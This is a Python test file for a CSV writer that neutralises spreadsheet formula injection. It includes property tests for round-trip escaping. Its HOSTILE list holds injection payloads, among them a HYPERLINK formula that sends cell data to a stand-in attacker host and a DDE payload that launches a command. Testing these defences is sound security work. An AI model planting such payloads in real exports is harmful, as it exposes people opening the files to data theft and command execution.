"""The one CSV writer: every cell quoted, nothing a spreadsheet would run as a formula."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheets import FORMULA_TRIGGERS, csv_writer, escape_cell, unescape_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def _written(row):
    out = io.StringIO()
    csv_writer(out).writerow(row)
    return out.getvalue()


def test_text_that_starts_like_a_formula_is_written_as_text():
    for text in HOSTILE:
        cell = next(csv.reader(io.StringIO(_written([text]))))[0]
        assert cell == "'" + text
        assert not cell.startswith(FORMULA_TRIGGERS)


def test_every_cell_is_quoted_so_no_separator_starts_a_new_cell():
    assert _written(["a;=1+1", "plain", 3]) == '"a;=1+1","plain","3"\r\n'


def test_numbers_and_plain_text_are_left_alone():
    assert escape_cell(-1) == -1
    assert escape_cell("Recovery 101") == "Recovery 101"


@given(st.text())
def test_unescaping_gives_back_exactly_what_was_escaped(text):
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(FORMULA_TRIGGERS)
